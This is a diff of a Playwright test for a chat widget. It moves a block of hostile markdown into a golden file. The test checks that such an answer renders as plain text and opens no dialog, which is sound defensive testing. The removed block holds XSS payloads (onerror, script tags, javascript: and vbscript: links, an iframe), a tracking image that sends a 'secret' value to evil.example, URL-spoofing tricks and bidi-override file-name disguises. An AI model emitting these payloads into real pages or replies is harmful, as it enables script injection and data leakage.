@@ -5,7 +5,7 @@ from __future__ import annotations
 import re
 from typing import TYPE_CHECKING
 
-from .conftest import Reply, Stage, Widget, answer, recorded
+from .conftest import TESTS, Reply, Stage, Widget, answer, recorded
 
 if TYPE_CHECKING:
     from playwright.sync_api import Page
@@ -132,27 +132,9 @@ def test_lost_connection_keeps_text_and_a_dead_endpoint_leads_to_search(stage: S
     assert widget.turns.count() == 0
 
 
-HOSTILE = """<img src=x onerror=alert(1)><script>alert(2)</script> ![pixel](https://evil.example/p.png?q=secret)
-
-[click](javascript:alert(3)) [data](data:text/html,x) [out](https://evil.example/) [here](settings/) <https://evil.example/b>
-
-[trick](https://127.0.0.1@evil.example/) [twice](//evil.example/) [blob](blob:null/x) https://evil.example/c
-
-Left \u202egnp.exe\u202c right \u2066in\u2069.
-
-| a | b |
-| --- | --- |
-| <b>bold</b> | [x](vbscript:x) |
-
-[ref]: https://evil.example/
-
-```html
-<iframe src=javascript:alert(4)>
-"""
-
-
 def test_hostile_answer_is_shown_as_text(page: Page, stage: Stage, widget: Widget) -> None:
-    stage.plays(answer(HOSTILE + "[^2ebf9271]", **{"2ebf9271": "javascript:alert(5)"}))
+    hostile = (TESTS / "golden/widget/hostile.md").read_text("utf-8")
+    stage.plays(answer(hostile + "[^2ebf9271]", **{"2ebf9271": "javascript:alert(5)"}))
     dialogs: list[str] = []
     page.on("dialog", lambda dialog: dialogs.append(dialog.message))
     turn = widget.visit(stage.page()).ask("Well?")
